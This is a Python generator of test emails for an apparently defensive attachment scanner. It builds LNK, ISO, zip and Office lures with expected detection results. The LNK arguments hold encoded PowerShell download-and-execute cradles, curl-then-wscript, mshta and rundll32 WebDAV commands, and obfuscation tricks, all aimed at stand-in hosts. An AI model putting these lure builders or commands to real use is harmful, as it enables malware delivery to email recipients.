#!/usr/bin/env python3
"""Variant malware-payload mails for kensa (ISO/LNK/zip/Office), written to
NAME.eml plus expected.json in the directory given (default cases/; run by
tests/e2e/test_variants.py) ({name: {"must": [...], "must_not": [...]}}).
Standard library plus genisoimage and zip(1)."""
import base64, io, json, os, shutil, struct, subprocess, sys, tempfile, zipfile
from email.message import EmailMessage
from email.policy import SMTP

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "cases")
# real macro documents: ../shared/corpora beside the repository (CORPORA overrides)
CORP = os.path.join(os.environ.get("CORPORA") or os.path.join(HERE, "..", "..", "..", "..", "shared", "corpora"),
                    "oletools_testdata")
CASES = {}

# ------------------------------------------------------------------ LNK writer (MS-SHLLINK)
HAS_IDLIST, HAS_LINKINFO, HAS_NAME, HAS_RELPATH, HAS_WORKDIR, HAS_ARGS, HAS_ICON, IS_UNICODE = (
    0x1, 0x2, 0x4, 0x8, 0x10, 0x20, 0x40, 0x80)
HAS_EXP_STRING = 0x200
CLSID = bytes.fromhex("0114020000000000C000000000000046")
MYCOMP = bytes.fromhex("E04FD020EA3A6910A2D808002B30309D")  # {20D04FE0-3AEA-1069-A2D8-08002B30309D}


def idlist(path):
    """My Computer / C:\\ / dir / ... / file as shell items (no BEEF0004 blocks)."""
    drive, rest = path[:3], path[3:]
    items = [b"\x1f\x50" + MYCOMP, b"\x2f" + drive.encode() + b"\0" * (20 - len(drive))]
    parts = rest.split("\\")
    for i, p in enumerate(parts):
        typ = 0x32 if i == len(parts) - 1 else 0x31
        name = p.encode("ascii") + b"\0"
        if len(name) % 2:
            name += b"\0"
        items.append(bytes([typ, 0]) + struct.pack("<IIH", 0, 0, 0x10 if typ == 0x31 else 0x20) + name)
    data = b"".join(struct.pack("<H", len(it) + 2) + it for it in items) + b"\0\0"
    return struct.pack("<H", len(data)) + data


def linkinfo(local_path):
    vol = struct.pack("<IIII", 0x11, 3, 0x1234ABCD, 0x10) + b"\0"
    hdr = 0x1C
    vol_off = hdr
    base_off = vol_off + len(vol)
    base = local_path.encode("ascii") + b"\0"
    suf_off = base_off + len(base)
    body = vol + base + b"\0"
    size = hdr + len(body)
    return struct.pack("<IIIIIII", size, hdr, 1, vol_off, base_off, 0, suf_off) + body


def make_lnk(target=None, args=None, relpath=None, workdir=None, icon=None, name=None,
             env_target=None, link_info=False, show=7, unicode=True):
    flags = IS_UNICODE if unicode else 0
    body = b""
    if target and not link_info:
        flags |= HAS_IDLIST
        body += idlist(target)
    if target and link_info:
        flags |= HAS_LINKINFO
        body += linkinfo(target)
    enc = "utf-16-le" if unicode else "cp1252"
    for flag, s in ((HAS_NAME, name), (HAS_RELPATH, relpath), (HAS_WORKDIR, workdir),
                    (HAS_ARGS, args), (HAS_ICON, icon)):
        if s is not None:
            flags |= flag
            body += struct.pack("<H", len(s)) + s.encode(enc)
    if env_target:
        flags |= HAS_EXP_STRING
        a = env_target.encode("cp1252")[:259].ljust(260, b"\0")
        w = env_target.encode("utf-16-le")[:518].ljust(520, b"\0")
        body += struct.pack("<II", 0x314, 0xA0000001) + a + w
    body += b"\0\0\0\0"
    ft = 133784352000000000
    hdr = struct.pack("<I16sII3QIIIH", 0x4C, CLSID, flags, 0x20, ft, ft, ft, 0, 0, show, 0) + b"\0" * 10
    assert len(hdr) == 76
    return hdr + body


def ps_b64(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


PS1 = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a/stage2.ps1')"
PS2 = "Start-BitsTransfer -Source https://cdn.update-check.example/x.dll -Destination $env:TEMP\\x.dll; rundll32 $env:TEMP\\x.dll,Start"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"

# ------------------------------------------------------------------ containers


def make_iso(files, joliet=True, hidden=()):
    """files: {relative name: bytes}; genisoimage -J -R (Joliet/Rock Ridge)."""
    d = tempfile.mkdtemp()
    try:
        src = os.path.join(d, "src")
        os.mkdir(src)
        for n, data in files.items():
            p = os.path.join(src, n)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
        out = os.path.join(d, "o.iso")
        cmd = ["genisoimage", "-quiet", "-V", "DOCS", "-o", out]
        if joliet:
            cmd += ["-J", "-R", "-joliet-long"]
        for h in hidden:
            cmd += ["-hidden", h]
        subprocess.run(cmd + [src], check=True)
        with open(out, "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(d)


def make_zip(files, compress=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", compress) as z:
        for n, data in files.items():
            z.writestr(zipfile.ZipInfo(n, (2024, 12, 12, 9, 30, 0)), data, compress_type=compress)
    return b.getvalue()


def make_encrypted_zip(files, password="infected"):
    """zip -e (ZipCrypto) with the names listed in the clear; None without zip(1)."""
    if not shutil.which("zip"):
        return None
    d = tempfile.mkdtemp()
    try:
        for n, data in files.items():
            with open(os.path.join(d, n), "wb") as f:
                f.write(data)
        subprocess.run(["zip", "-q", "-P", password, "out.zip"] + list(files), cwd=d, check=True)
        with open(os.path.join(d, "out.zip"), "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(d)


def make_pe():
    """MZ header with e_lfanew -> PE\\0\\0 and a minimal i386 COFF + optional header."""
    mz = bytearray(b"MZ" + b"\0" * 0x3A + struct.pack("<I", 0x80))
    mz += b"\0" * (0x80 - len(mz))
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBB", 0x10B, 14, 0) + b"\0" * (0xE0 - 4)
    sect = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    img = bytes(mz) + coff + opt + sect
    return img + b"\0" * (0x400 - len(img))


def make_pdf(text="Quarterly report"):
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            None, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    stream = "BT /F1 12 Tf 72 770 Td (%s) Tj ET\n" % text
    objs[3] = "<< /Length %d >>\nstream\n%sendstream" % (len(stream), stream)
    out = b"%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += ("%d 0 obj\n%s\nendobj\n" % (i, o)).encode()
    x = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)).encode()
    out += b"".join(("%010d 00000 n \n" % o).encode() for o in offs)
    out += ("trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)).encode()
    return out


CT_DOCX = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
           'officedocument.wordprocessingml.document.main+xml"/>'
           '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
           'officedocument.wordprocessingml.settings+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
DOC_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/settings" Target="settings.xml"/></Relationships>')
DOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
       '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       '<w:body><w:p><w:r><w:t>Meeting notes, December.</w:t></w:r></w:p></w:body></w:document>')
SETTINGS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '%s<w:defaultTabStop w:val="720"/></w:settings>')


def make_docx(template_url=None):
    files = {"[Content_Types].xml": CT_DOCX.encode(), "_rels/.rels": RELS.encode(),
             "word/document.xml": DOC.encode(), "word/_rels/document.xml.rels": DOC_RELS.encode()}
    if template_url:
        files["word/settings.xml"] = (SETTINGS % '<w:attachedTemplate r:id="rId1"/>').encode()
        files["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
            % template_url).encode()
    else:
        files["word/settings.xml"] = (SETTINGS % "").encode()
    return make_zip(files)


def vba_bin():
    with zipfile.ZipFile(os.path.join(CORP, "oleform/oleform-PR314.docm")) as z:
        return z.read("word/vbaProject.bin")


def make_xlsm():
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
          '</Types>')
    rels = RELS.replace("word/document.xml", "xl/workbook.xml")
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
               'vbaProject" Target="vbaProject.bin"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>')
    return make_zip({"[Content_Types].xml": ct.encode(), "_rels/.rels": rels.encode(),
                     "xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": wb_rels.encode(),
                     "xl/vbaProject.bin": vba_bin()})


def corpus(p):
    """A corpus file's bytes, or None when the corpora are not there (the
    case is then left out)."""
    try:
        with open(os.path.join(CORP, p), "rb") as f:
            return f.read()
    except OSError:
        return None

# ------------------------------------------------------------------ mail


def mail(name, subject, atts, must, must_not=(), body="Please see the attached documents.\n"):
    if any(data is None for _, data, _ in atts):
        return  # a corpus file or a tool is missing
    m = EmailMessage()
    m["From"] = "Accounts <ap@vendor-billing.example>"
    m["To"] = "hanako.sato@hoshizora-denko.co.jp"
    m["Subject"] = subject
    m["Date"] = "Thu, 12 Dec 2024 10:00:00 +0900"
    m["Message-ID"] = "<%s@vendor-billing.example>" % name
    m.set_content(body)
    for fn, data, ctype in atts:
        mt, st = (ctype or "application/octet-stream").split("/")
        m.add_attachment(data, maintype=mt, subtype=st, filename=fn)
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(m.as_bytes(policy=SMTP))
    CASES[name] = {"must": sorted(set(must)), "must_not": sorted(set(must_not))}


LNK_ENC = make_lnk(POWERSHELL, "-NoP -W Hidden -EncodedCommand " + ps_b64(PS1),
                   workdir="%TEMP%", icon="%SystemRoot%\\System32\\imageres.dll", name="Invoice")
BENIGN_NOT = ["attachment.dangerous_type", "attachment.extension_mismatch", "attachment.deceptive_name",
              "attachment.encrypted_archive", "office.vba_macro", "office.remote_template",
              "lnk.command_execution", "lnk.encoded_powershell", "iso.contains_shortcut",
              "iso.contains_executable", "input.malformed"]


def build():
    os.makedirs(OUT, exist_ok=True)
    L = ["lnk.command_execution"]
    E = ["lnk.encoded_powershell"]
    # 1 ISO (Joliet long names) -> LNK (IDList target) -> powershell -EncodedCommand
    iso = make_iso({"Invoice_December_2024.pdf.lnk": LNK_ENC, "readme.txt": b"see invoice\n"})
    mail("c01_iso_joliet_lnk_enc", "Invoice December", [("Invoice_Dec.iso", iso, "application/octet-stream")],
         ["attachment.dangerous_type", "iso.contains_shortcut", "attachment.deceptive_name"] + L + E)
    # 2 .img extension, ISO content, holding a PE and a hidden DLL
    img = make_iso({"setup.exe": make_pe(), "data/helper.dll": make_pe()}, hidden=["helper.dll"])
    mail("c02_img_exe", "Delivery note", [("delivery_note.img", img, "application/octet-stream")],
         ["attachment.dangerous_type", "iso.contains_executable"])
    # 3 ISO (no Joliet, plain ISO 9660 8.3 names) with .js .vbs .hta .bat
    iso3 = make_iso({"ORDER.JS": b"WScript.Echo(1)", "RUN.VBS": b"MsgBox 1", "VIEW.HTA": b"<html></html>",
                     "GO.BAT": b"@echo off\r\n"}, joliet=False)
    mail("c03_iso_scripts_plain9660", "Order", [("order.iso", iso3, "application/x-iso9660-image")],
         ["attachment.dangerous_type", "iso.contains_executable"])
    # 4 LNK whose target is only in the EnvironmentVariables block
    lnk4 = make_lnk(None, "/c start /min powershell -w hidden -c \"iwr http://203.0.113.50/d.txt|iex\"",
                    env_target="%windir%\\system32\\cmd.exe", icon="%windir%\\explorer.exe", name="Scan")
    mail("c04_lnk_env_only", "Scan", [("scan_0042.lnk", lnk4, "application/octet-stream")],
         ["attachment.dangerous_type"] + L)
    # 5 cmd.exe /c chain with powershell -ec
    lnk5 = make_lnk(CMD, "/q /c powershell.exe -nop -ec " + ps_b64(PS2))
    mail("c05_cmd_chain_ec", "Docs", [("docs.lnk", lnk5, None)], ["attachment.dangerous_type"] + L + E)
    # 6 mshta with an http URL
    lnk6 = make_lnk("C:\\Windows\\System32\\mshta.exe", "http://update-portal.example/view.hta")
    mail("c06_mshta_url", "View", [("view.lnk", lnk6, None)], ["attachment.dangerous_type"] + L)
    # 7 rundll32 with a DLL on a WebDAV share
    lnk7 = make_lnk("C:\\Windows\\System32\\rundll32.exe", "\\\\files.share-drop.example@SSL\\dav\\x.dll,DllMain",
                    link_info=True)
    mail("c07_rundll32_linkinfo", "Share", [("share.lnk", lnk7, None)], ["attachment.dangerous_type"] + L)
    # 8 conhost --headless powershell -enC
    lnk8 = make_lnk("C:\\Windows\\System32\\conhost.exe", "--headless powershell -enC " + ps_b64(PS1))
    mail("c08_conhost_headless_enC", "Report", [("report.lnk", lnk8, None)], ["attachment.dangerous_type"] + L + E)
    # 9 caret-obfuscated cmd chain
    lnk9 = make_lnk(CMD, "/c p^ow^ers^hell -^e^n^c " + ps_b64(PS1))
    mail("c09_caret_obfuscation", "Report", [("report2.lnk", lnk9, None)], ["attachment.dangerous_type"] + L + E)
    # 10 relative path only, wscript + script on the same medium
    lnk10 = make_lnk(None, "//B //E:jscript ..\\res\\a.dat", relpath=".\\..\\..\\Windows\\System32\\wscript.exe")
    mail("c10_relative_only_wscript", "Notice", [("notice.lnk", lnk10, None)], ["attachment.dangerous_type"] + L)
    # 11 whitespace-padded arguments (300 blanks, then CR LF)
    lnk11 = make_lnk(POWERSHELL, " " * 300 + "\r\n-w 1 -e " + ps_b64(PS2), icon="C:\\Windows\\System32\\shell32.dll")
    mail("c11_padded_args", "Padded", [("contract.pdf.lnk", lnk11, None)],
         ["attachment.dangerous_type", "attachment.deceptive_name"] + L + E)
    # 12 LNK inside a deflated zip (LinkInfo target, ANSI strings)
    lnk12 = make_lnk(POWERSHELL, "-ExecutionPolicy Bypass -e " + ps_b64(PS1), link_info=True, unicode=False)
    z12 = make_zip({"Invoice/Invoice_1234.lnk": lnk12, "Invoice/notes.txt": b"hello"})
    mail("c12_zip_lnk_deflate", "Invoice", [("Invoice_1234.zip", z12, "application/zip")],
         ["attachment.dangerous_type"] + L + E)
    # 13 LNK inside ISO inside zip
    z13 = make_zip({"Order_77.iso": make_iso({"Order_77.lnk": lnk5})})
    mail("c13_zip_iso_lnk", "Order", [("Order_77.zip", z13, "application/zip")],
         ["attachment.dangerous_type", "iso.contains_shortcut"] + L + E)
    # 14 /enc with forward slash and quoted value, pwsh
    lnk14 = make_lnk("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "/NoLogo /enc \"" + ps_b64(PS2) + "\"")
    mail("c14_pwsh_slash_enc_quoted", "Tool", [("tool.lnk", lnk14, None)], ["attachment.dangerous_type"] + L + E)
    # 15 encrypted zip (zip -e), names listed: a .exe and a .pdf
    z15 = make_encrypted_zip({"payment_advice.exe": make_pe(), "terms.pdf": make_pdf()})
    mail("c15_zip_encrypted_exe", "Password 2024", [("payment.zip", z15, "application/zip")],
         ["attachment.encrypted_archive", "attachment.dangerous_type"])
    # 16 zip renamed .piz (deflated entries, not encrypted)
    z16 = make_zip({"statement.pdf": make_pdf()})
    mail("c16_zip_named_piz", "Statement", [("statement.piz", z16, "application/octet-stream")],
         ["attachment.extension_mismatch"])
    # 17 zip named .zi_ with an encrypted entry
    z17 = make_encrypted_zip({"invoice.xlsx": b"fake"})
    mail("c17_encrypted_zip_zi_", "Invoice", [("invoice.zi_", z17, "application/octet-stream")],
         ["attachment.extension_mismatch", "attachment.encrypted_archive"])
    # 18 PE named .pdf
    mail("c18_pe_named_pdf", "Report", [("report.pdf", make_pe(), "application/pdf")],
         ["attachment.extension_mismatch", "attachment.dangerous_type"])
    # 19-25 dangerous types by name
    mail("c19_scr", "Photo", [("photo_2024.scr", make_pe(), None)], ["attachment.dangerous_type"])
    mail("c20_js_vbs_hta", "Scripts", [("invoice.js", b"var s=new ActiveXObject('WScript.Shell');", "text/plain"),
                                       ("order.vbs", b"CreateObject(\"WScript.Shell\").Run \"calc\"", "text/plain"),
                                       ("view.hta", b"<html><script>alert(1)</script></html>", "text/html")],
         ["attachment.dangerous_type"])
    one = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + b"\0" * 1024  # OneNote section GUID
    mail("c21_onenote", "Notes", [("meeting_notes.one", one, "application/onenote")], ["attachment.dangerous_type"])
    # the same notebook named as a PDF: known by its content
    mail("c21b_onenote_named_pdf", "Invoice", [("invoice_0412.pdf", one, "application/pdf")],
         ["attachment.dangerous_type", "attachment.extension_mismatch"])
    vhd = b"\0" * 1024 + b"conectix" + b"\0" * 504
    mail("c22_vhd", "Backup", [("backup.vhd", vhd, None)], ["attachment.dangerous_type"])
    # 23 RLO name
    mail("c23_rlo", "Invoice", [("invoice_\u202efdp.scr", make_pe(), None)],
         ["attachment.deceptive_name", "attachment.dangerous_type"])
    # 24 double extension in zip and long space padding
    z24 = make_zip({"invoice.pdf.exe": make_pe(), "statement.pdf" + " " * 40 + ".js": b"WScript.Echo(1)"})
    mail("c24_zip_double_ext_padding", "Docs", [("docs.zip", z24, "application/zip")],
         ["attachment.deceptive_name", "attachment.dangerous_type"])
    # 24b an invisible character before the extension (CGJ, as phishing_pot's RTF lure)
    mail("c24b_invisible_character_name", "Review document",
         [("review_txtid$3545767\u034f\u034f.rtf", b"{\\rtf1\\ansi review}\n", "application/rtf")],
         ["attachment.deceptive_name"])
    # 25 real docm (oletools oleform, real VBA)
    mail("c25_docm_real_vba", "Form", [("form.docm", corpus("oleform/oleform-PR314.docm"), None)],
         ["office.vba_macro", "attachment.dangerous_type"])
    # 26 xlsm with the same VBA project
    mail("c26_xlsm_vba", "Prices", [("prices.xlsm", make_xlsm(), None)],
         ["office.vba_macro", "attachment.dangerous_type"])
    # 27 OLE .xls with _VBA_PROJECT_CUR (encrypted workbook, real file)
    mail("c27_ole_xls_vba", "Prices", [("prices.xls", corpus("encrypted/autostart-encrypt-standardpassword.xls"),
                                        "application/vnd.ms-excel")], ["office.vba_macro"])
    # 28 OLE .ppt with VBA (VBAInfoContainer)
    mail("c28_ole_ppt_vba", "Slides", [("slides.ppt", corpus("olevba/sample_with_vba.ppt"), None)],
         ["office.vba_macro"])
    # 29 OLE file that is a VBA project (Macros-less root VBA storage) named .doc
    mail("c29_ole_vbaproject_as_doc", "Doc", [("letter.doc", vba_bin(), "application/msword")], ["office.vba_macro"])
    # 30 docx remote template (settings.xml.rels attachedTemplate https)
    mail("c30_docx_remote_template", "CV", [("cv.docx", make_docx("https://templates.office-cdn.example/t.dotm"),
                                             None)], ["office.remote_template"])
    # 31 zip carrying [Content_Types].xml plus a shortcut: a fake OOXML package
    z31 = make_zip({"[Content_Types].xml": CT_DOCX.encode(), "Invoice.lnk": lnk5})
    mail("c31_zip_fake_ooxml_with_lnk", "Invoice", [("Invoice.zip", z31, "application/zip")],
         ["attachment.dangerous_type"] + L + E)
    # 32 ISO whose LNK runs cmd via %COMSPEC% with URLs; name with 40 blanks
    lnk32 = make_lnk(None, "/c curl -s -o %TEMP%\\u.js https://paste.bad-host.example/raw/u && wscript %TEMP%\\u.js",
                     env_target="%COMSPEC%")
    iso32 = make_iso({"Document.pdf" + " " * 40 + ".lnk": lnk32})
    mail("c32_iso_comspec_padded_name", "Document", [("Document.iso", iso32, None)],
         ["attachment.dangerous_type", "iso.contains_shortcut", "attachment.deceptive_name"] + L)
    # 33 -e value split: "powershell.exe -e JAB..." inside cmd /k with & chain
    lnk33 = make_lnk(CMD, "/k echo hi&powershell -WindowStyle hidden -E " + ps_b64(PS1) + "&exit")
    mail("c33_cmd_ampersand_E", "Hi", [("hi.lnk", lnk33, None)], ["attachment.dangerous_type"] + L + E)
    # 34 .img holding .lnk plus decoy
    img34 = make_iso({"photos/IMG_0001.jpg.lnk": lnk8, "photos/IMG_0002.jpg": b"\xff\xd8\xff\xe0" + b"\0" * 100})
    mail("c34_img_nested_dir_lnk", "Photos", [("photos.img", img34, None)],
         ["attachment.dangerous_type", "iso.contains_shortcut", "attachment.deceptive_name"] + L + E)
    # 35 script with UPPER-case extension inside zip
    z35 = make_zip({"PAYMENT.HTA": b"<html><script>x</script></html>", "INVOICE.WSF": b"<job></job>"})
    mail("c35_zip_uppercase_scripts", "Pay", [("pay.zip", z35, "application/zip")], ["attachment.dangerous_type"])
    # 36 shortcut named .pdf (content says shortcut)
    mail("c36_lnk_named_pdf", "Invoice", [("invoice.pdf", lnk12, "application/pdf")],
         ["attachment.extension_mismatch", "attachment.dangerous_type"] + L + E)
    # 37 fake OOXML (both [Content_Types].xml and _rels/.rels) hiding an ISO and a .js
    z37 = make_zip({"[Content_Types].xml": CT_DOCX.encode(), "_rels/.rels": RELS.encode(),
                    "docs/Order.iso": make_iso({"Order.lnk": lnk9}), "docs/readme.js": b"WScript.Echo(1)"})
    mail("c37_zip_fake_ooxml_iso_js", "Order", [("Order.zip", z37, "application/zip")],
         ["attachment.dangerous_type", "iso.contains_shortcut"] + L + E)
    # 38 cmd chain with a caret-split URL and a WebDAV share for the IOC list
    lnk38 = make_lnk(CMD, "/c ms^hta h^ttp://198.51.100.77/r.hta & rundll32 \\\\203.0.113.9@80\\d\\a.dll,Run")
    mail("c38_cmd_caret_url_unc", "Notice", [("notice2.lnk", lnk38, None)], ["attachment.dangerous_type"] + L)
    # 39 cmd /c "powershell ... -e B64" (the whole chain quoted, the usual form)
    lnk39 = make_lnk(CMD, '/c "powershell.exe -nop -w hidden -e ' + ps_b64(PS1) + '"')
    mail("c39_cmd_quoted_chain", "Quoted", [("quoted.lnk", lnk39, None)], ["attachment.dangerous_type"] + L + E)
    # 40 %COMSPEC% target with /v:on /c "set x=... && powershell -EnCoDeDcOmMaNd B64"
    lnk40 = make_lnk(None, '/v:on /c "set a=1&& powershell -EnCoDeDcOmMaNd ' + ps_b64(PS2) + '"',
                     env_target="%COMSPEC%")
    mail("c40_comspec_quoted_set_chain", "Quoted", [("quoted2.lnk", lnk40, None)],
         ["attachment.dangerous_type"] + L + E)
    # ---- benign controls
    mail("b00_persian_and_emoji_names", "Photos",
         [("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.pdf", make_pdf("Notes"), "application/pdf"),
          ("family\U0001f468\u200d\U0001f469.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 64, "image/jpeg")],
         [], BENIGN_NOT)
    mail("b01_pdf", "Minutes", [("minutes.pdf", make_pdf("Minutes"), "application/pdf")], [], BENIGN_NOT)
    mail("b02_docx", "Notes", [("notes.docx", make_docx(), "application/vnd.openxmlformats-officedocument."
                                                         "wordprocessingml.document")], [], BENIGN_NOT)
    mail("b03_zip_txt", "Logs", [("logs.zip", make_zip({"a.txt": b"one\n", "dir/b.txt": b"two\n"}),
                                  "application/zip")], [], BENIGN_NOT)
    mail("b04_shortcut_explorer", "Share", [("share_drive.url.txt", b"[InternetShortcut]\r\n", "text/plain")],
         [], BENIGN_NOT)
    mail("b05_xlsx_in_zip", "Sheet", [("q4.zip", make_zip({"q4 report (final).docx": make_docx(),
                                                            "v1.2.3 notes.txt": b"x"}), "application/zip")],
         [], BENIGN_NOT)
    # b06: a real docx with an embedded docx (oletools) and a real xlsx: no findings
    mail("b06_docx_embedded", "Docs", [("embedded.docx", corpus("oleobj/embedded-simple-2007.docx"), None),
                                       ("sheet.xlsx", corpus("msodde/dde-test.xlsx"), None)],
         [], [i for i in BENIGN_NOT if i != "input.malformed"])
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(CASES, f, indent=1, sort_keys=True)


if __name__ == "__main__":
    build()
    print(len(CASES), "cases")
